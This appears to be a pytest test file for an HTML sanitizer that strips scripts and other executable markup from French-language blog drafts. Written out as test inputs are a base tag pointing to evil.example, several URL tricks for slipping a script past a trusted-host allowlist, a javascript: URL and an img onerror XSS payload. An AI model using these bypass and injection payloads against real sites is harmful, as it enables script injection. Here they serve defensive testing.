@pytest.mark.parametrize(("form", "where"), PLACES, ids=[f"{f}-{w}" for f, w in PLACES])
@pytest.mark.parametrize("kind", NEVER_KEPT)
def test_what_is_never_kept_goes_and_the_text_around_it_stays_text(kind, form, where):
    markup, report = NEVER_KEPT[kind]
    draft = {"classic": _classic, "blocks": _blocks, "plain": _plain}[form](markup, where)
    document = parse(draft)
    assert str(document.removed) == report
    words = " ".join(b.text for b in document.text_blocks)
    for text in (ONE, TWO, THREE):
        assert words.count(text) == 1, (text, document.blocks)
    rendered = render(document.blocks, "blocks" if form == "blocks" else "classic", document.shortcodes)
    assert browser_readings(rendered) == [] and "collecte.example" not in rendered and "&lt;" not in rendered


def test_a_base_swallows_no_classic_draft():
    paragraphs = [f"<p>{ONE} Paragraphe {n}.</p>" for n in range(1, 9)]
    draft = "\n".join(paragraphs[:4] + ['<base href="https://evil.example/">'] + paragraphs[4:])
    document = parse(draft)
    assert document.word_count() > 150 and str(document.removed) == "1 base element"
    assert not document.placeholders


def test_a_clean_meta_and_a_commented_tag_are_no_reason_to_keep_text():
    document = parse(f'<p>{ONE}</p>\n<meta name="robots" content="noindex">\n<p>{TWO}</p>\n<!-- <div> ancien encadré -->\n'
                     f"<p>{THREE}</p>")
    assert [b.text for b in document.text_blocks] == [ONE, TWO, THREE] and not document.removed
    assert [b.markup for b in document.blocks if isinstance(b, Placeholder)] == [
        '<meta name="robots" content="noindex">', "<!-- <div> ancien encadré -->"]


@pytest.mark.parametrize("src", [
    "https://evil.example\\@platform.twitter.com/widgets.js",
    "//evil.example\\@platform.twitter.com/widgets.js",
    "https://platform.twitter.com@evil.example/widgets.js",
    "https://evil.example%2F@platform.twitter.com/widgets.js",
    "https:\\\\evil.example/platform.twitter.com/widgets.js",
    "javascript://platform.twitter.com/%0aalert(1)",
])
def test_a_script_is_trusted_only_if_a_browser_loads_it_from_a_trusted_host(src):
    block = f'<!-- wp:html -->\n<p>Le fil</p><script async src="{src}"></script>\n<!-- /wp:html -->'
    assert keep(block, "html", ["platform.twitter.com"]).markup is None
    assert str(executable_parts(block, ["platform.twitter.com"])).startswith("1 script element")


def test_a_trusted_script_in_any_case_and_with_spaces_is_still_trusted():
    block = '<!-- wp:html -->\n<p>Le fil</p><script async src=" HTTPS://Platform.Twitter.com/widgets.js "></script>\n<!-- /wp:html -->'
    assert keep(block, "html", ["platform.twitter.com"]).markup == block


def test_in_a_paragraph_what_goes_with_its_content_is_reported_and_other_text_stays():
    document = parse(f"<p>{ONE} <textarea>Votre avis</textarea> <noscript>Activez JavaScript <img src=x "
                     f'onerror="alert(1)"></noscript> <xmp>x</xmp> {TWO}</p>')
    assert document.blocks[0].text == f"{ONE} Votre avis {TWO}" and len(document.blocks) == 1
    assert str(document.removed) == "1 noscript element, 1 xmp element"
